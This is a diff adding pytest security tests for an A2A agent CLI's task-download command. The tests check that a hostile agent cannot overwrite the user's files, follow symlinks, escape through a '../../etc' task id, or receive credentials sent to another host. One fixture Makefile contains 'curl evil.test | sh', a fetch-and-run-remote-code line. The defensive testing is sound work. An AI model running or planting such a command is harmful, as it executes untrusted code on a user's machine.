@@ -10,6 +10,7 @@ import httpx
 import pytest
 
 from a2a_testkit import AGENT, ANY_CREDENTIAL, RPC, rpc_result, v1_card
+from hostile_server import hostile, rpc_answer
 
 CARD_URL = f"{AGENT}/.well-known/agent-card.json"
 PNG = b"\x89PNG\r\n\x1a\nfake"
@@ -65,12 +66,19 @@ def test_download_text_lists_what_it_wrote(cli, agent, tmp_path, monkeypatch):
     agent.post(RPC).respond(json=rpc_result({**V1_TASK, "artifacts": V1_TASK["artifacts"][:1]}))
     result = cli("tasks", "download", "t-1", "-u", AGENT)
     assert result.exit_code == 0, result.stderr
-    assert "Task: t-1\nContext: c-1\nState: completed\nSaved: user.json\nSize: 21 bytes\nMedia type: application/json\n" in result.stdout
-    again = cli("tasks", "download", "t-1", "-u", AGENT)
-    assert "Saved: user.json\nSize: 21 bytes\nMedia type: application/json\nReplaced: true\n" in again.stdout
+    # by default into a directory of the task's own, and said where
+    assert "Task: t-1\nContext: c-1\nState: completed\nSaved: t-1/user.json\nSize: 21 bytes\nMedia type: application/json\n" in result.stdout
+    assert "saving into t-1/ (--dir chooses another directory)" in result.stderr
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["t-1"]
+    again = cli("tasks", "download", "t-1", "-u", AGENT)  # the files are there: nothing replaced
+    assert again.exit_code == 1 and "1 file(s) already exist in t-1: t-1/user.json; nothing was written" in again.stderr
+    assert "--overwrite replaces them" in again.stderr
+    replaced = cli("tasks", "download", "t-1", "-u", AGENT, "--overwrite")
+    assert replaced.exit_code == 0, replaced.stderr
+    assert "Saved: t-1/user.json\nSize: 21 bytes\nMedia type: application/json\nReplaced: true\n" in replaced.stdout
     from a2a_testkit import assert_floor
 
-    assert_floor(again.stdout)
+    assert_floor(replaced.stdout)
 
 
 @pytest.mark.parametrize("state,hint", [("TASK_STATE_WORKING", "a2a tasks get t-1 --wait"), ("TASK_STATE_COMPLETED", "a2a tasks get t-1")])
@@ -104,3 +112,83 @@ def test_unknown_task_is_the_rpc_error(cli, agent, tmp_path):
     agent.post(RPC).respond(json={"jsonrpc": "2.0", "id": 1, "error": {"code": -32001, "message": "Task not found"}})
     result = cli("tasks", "download", "t-9", "-u", AGENT, "--dir", str(tmp_path))
     assert result.exit_code == 1 and "-32001 TaskNotFoundError" in result.stderr
+
+
+# -- issue 27: no file replaced behind the user's back; credentials stay with the agent's origin ----
+# Against hostile agents on 127.0.0.1 (tests/hostile_server.py).
+
+
+
+def _agent_with(task, h):
+    h.card(v1_card(url=f"{h.url}/rpc", securitySchemes=ANY_CREDENTIAL))
+    h.rpc(rpc_answer(task))
+
+
+MAKEFILE_TASK = {"id": "t-1", "contextId": "c-1", "status": {"state": "TASK_STATE_COMPLETED"}, "artifacts": [
+    {"artifactId": "a-1", "name": "build", "parts": [{"text": "all:\n\tcurl evil.test | sh\n", "filename": "Makefile"}, {"text": "fine", "filename": "new.txt"}]},
+]}
+
+
+def test_an_agents_makefile_does_not_replace_the_users(cli, tmp_path, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    (tmp_path / "Makefile").write_text("all:\n\techo mine\n")
+    with hostile() as h:
+        _agent_with(MAKEFILE_TASK, h)
+        result = cli("tasks", "download", "t-1", "-u", h.url, "--dir", ".")
+        assert result.exit_code == 1, result.stdout
+        assert "already exist in .: Makefile; nothing was written" in result.stderr
+        assert (tmp_path / "Makefile").read_text() == "all:\n\techo mine\n" and not (tmp_path / "new.txt").exists()
+        as_json = cli("tasks", "download", "t-1", "-u", h.url, "--dir", ".", "-o", "json")
+        assert as_json.exit_code == 1 and json.loads(as_json.stdout)["error"]["code"] == "X_A2A_FILE_EXISTS"
+        default = cli("tasks", "download", "t-1", "-u", h.url)  # the default: a directory of its own
+        assert default.exit_code == 0, default.stderr
+        assert (tmp_path / "t-1" / "Makefile").read_text().startswith("all:\n\tcurl") and (tmp_path / "Makefile").read_text().endswith("mine\n")
+        forced = cli("tasks", "download", "t-1", "-u", h.url, "--dir", ".", "--overwrite", "-o", "json")
+        assert forced.exit_code == 0, forced.stderr
+        assert {Path(f["path"]).name: f["replaced"] for f in json.loads(forced.stdout)["files"]} == {"Makefile": True, "new.txt": False}
+
+
+def test_a_symlink_in_the_way_is_not_followed(cli, tmp_path):
+    target = tmp_path / "elsewhere.txt"
+    target.write_text("keep")
+    out = tmp_path / "out"
+    out.mkdir()
+    (out / "Makefile").symlink_to(target)
+    with hostile() as h:
+        _agent_with(MAKEFILE_TASK, h)
+        result = cli("tasks", "download", "t-1", "-u", h.url, "--dir", str(out))
+        assert result.exit_code == 1 and "Makefile" in result.stderr
+        assert target.read_text() == "keep"
+
+
+def test_a_hostile_task_id_makes_a_plain_directory(cli, tmp_path, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    with hostile() as h:
+        _agent_with({**MAKEFILE_TASK, "id": "../../etc"}, h)
+        result = cli("tasks", "download", "../../etc", "-u", h.url)
+        assert result.exit_code == 0, result.stderr
+        assert sorted(p.name for p in tmp_path.iterdir()) == ["etc"] and (tmp_path / "etc" / "Makefile").exists()
+
+
+def test_no_credential_goes_to_a_file_on_another_host(cli, tmp_path):
+    with hostile() as agent_srv, hostile() as cdn:
+        task = {"id": "t-1", "contextId": "c-1", "status": {"state": "TASK_STATE_COMPLETED"}, "artifacts": [
+            {"artifactId": "a", "parts": [{"url": f"{agent_srv.url}/files/own.bin"}, {"url": f"{cdn.url}/x.bin"}, {"url": f"{agent_srv.url}/files/moved.bin"}]},
+        ]}
+        _agent_with(task, agent_srv)
+        agent_srv.route("GET", "/files/own.bin", b"own")
+        agent_srv.route("GET", "/files/moved.bin", (302, {"Location": f"{cdn.url}/moved.bin"}, b""))
+        cdn.route("GET", "/x.bin", b"cdn")
+        cdn.route("GET", "/moved.bin", b"moved")
+        args = ("-H", "Authorization: Bearer s3cret-tok", "-H", "X-Access-Key: s3cret-key", "-H", "X-Team: qa", "--api-key", "s3cret-api")
+        result = cli("tasks", "download", "t-1", "-u", agent_srv.url, "--dir", str(tmp_path / "out"), *args)
+        assert result.exit_code == 0, result.stderr
+        own = agent_srv.to("/files/own.bin")[0].headers
+        assert own["authorization"] == "Bearer s3cret-tok" and own["x-access-key"] == "s3cret-key" and own["x-api-key"] == "s3cret-api"
+        for seen in cdn.seen:  # neither the direct link nor the redirect carried a credential
+            assert not {"authorization", "x-access-key", "x-api-key", "cookie"} & set(seen.headers), seen
+        assert cdn.to("/x.bin")[0].headers["x-team"] == "qa"  # a harmless -H header still goes
+        port = cdn.url.rsplit(":", 1)[1]
+        assert f"fetching {cdn.url}/x.bin from another host, 127.0.0.1:{port}: no credentials sent (not Authorization, X-Access-Key)" in result.stderr
+        assert (tmp_path / "out" / "moved.bin").read_bytes() == b"moved"
+        assert "s3cret" not in result.stderr + result.stdout
